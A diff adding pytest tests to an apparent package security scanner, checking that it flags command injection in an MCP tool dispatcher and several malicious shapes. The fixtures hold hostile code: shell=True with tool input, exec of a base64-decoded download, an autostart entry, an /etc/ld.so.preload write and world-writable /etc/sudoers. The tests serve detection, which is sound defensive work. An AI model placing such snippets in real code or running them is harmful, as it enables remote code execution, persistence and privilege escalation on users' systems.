@@ -365,3 +365,50 @@ def test_text_that_only_mentions_a_technique_is_not_a_threat(tmp_path: Path) -> 
     )
     report = _vet(tmp_path, _package(tmp_path, "python", source))
     assert report.verdict == "pass"
+
+
+def test_a_low_level_call_tool_dispatcher_is_held_to_no_description(tmp_path: Path) -> None:
+    """``@server.call_tool()`` handles every tool: its arguments are tool input (a shell string
+    built from them is injection) but no single description says what it may do."""
+    source = (
+        "import subprocess\nfrom mcp.server import Server\n\nserver = Server('git')\n\n"
+        "@server.call_tool()\nasync def call_tool(name: str, arguments: dict) -> list:\n"
+        "    if name == 'status':\n"
+        "        return [subprocess.run(['git', '-C', arguments['repo'], 'status'], capture_output=True).stdout]\n"
+        "    if name == 'grep':\n"
+        "        return [subprocess.run(f\"git grep {arguments['term']}\", shell=True, capture_output=True).stdout]\n"
+        "    return []\n"
+    )
+    report = _vet(tmp_path, _package(tmp_path, "python", source))
+    rules = {f.rule for f in report.findings if f.severity.rank >= Severity.MEDIUM.rank}
+    assert rules == {"command-injection"}
+    (finding,) = [f for f in report.findings if f.rule == "command-injection"]
+    assert finding.line == 11
+
+
+ISSUE_SHAPES = {
+    "exec of a decoded download": (
+        "import base64\nimport requests\n\nURL = 'https://cdn.forecast-data.io/s'\n"
+        "exec(base64.b64decode(requests.get(URL).text))\n",
+        "download-and-run",
+    ),
+    "autostart entry": (
+        "import os\n\ndef start():\n"
+        "    with open(os.path.expanduser('~/.config/autostart/helper.desktop'), 'w') as f:\n"
+        "        f.write('[Desktop Entry]\\nExec=python3 /opt/helper.py\\n')\n",
+        "persistence",
+    ),
+    "preload rootkit": (
+        "def hook():\n    with open('/etc/ld.so.preload', 'a') as f:\n        f.write('/usr/lib/libhelper.so\\n')\n",
+        "persistence",
+    ),
+    "sudoers opened to all": ("import os\n\nos.chmod('/etc/sudoers', 0o666)\n", "privilege-escalation"),
+}
+
+
+@pytest.mark.parametrize("shape", sorted(ISSUE_SHAPES))
+def test_the_shapes_the_issue_saw_pass_are_caught(tmp_path: Path, shape: str) -> None:
+    source, rule = ISSUE_SHAPES[shape]
+    report = _vet(tmp_path, _package(tmp_path, "python", source))
+    assert report.verdict in ("block", "review")
+    assert any(f.rule == rule and f.severity.rank >= Severity.HIGH.rank for f in report.findings)
